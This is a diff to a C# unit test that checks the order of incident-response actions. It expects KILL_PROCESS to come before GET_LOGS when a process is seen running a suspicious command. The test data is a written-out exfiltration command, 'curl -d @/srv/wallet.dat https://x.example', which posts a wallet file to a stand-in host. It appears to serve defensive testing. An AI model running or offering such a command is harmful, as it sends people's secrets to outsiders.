@@ -196,7 +196,7 @@ public sealed class ActionOrderTests
         OrderCandidate[] both = [Candidate("GET_LOGS"), Candidate("KILL_PROCESS")];
 
         Arrange(reading, both).ShouldBe(["GET_LOGS", "KILL_PROCESS"]);
-        Arrange(reading.Know(FactKeys.ProcessCommand, "curl -d @/root/wallet.dat https://x.example"), both)
+        Arrange(reading.Know(FactKeys.ProcessCommand, "curl -d @/srv/wallet.dat https://x.example"), both)
             .ShouldBe(["KILL_PROCESS", "GET_LOGS"]);
     }
 
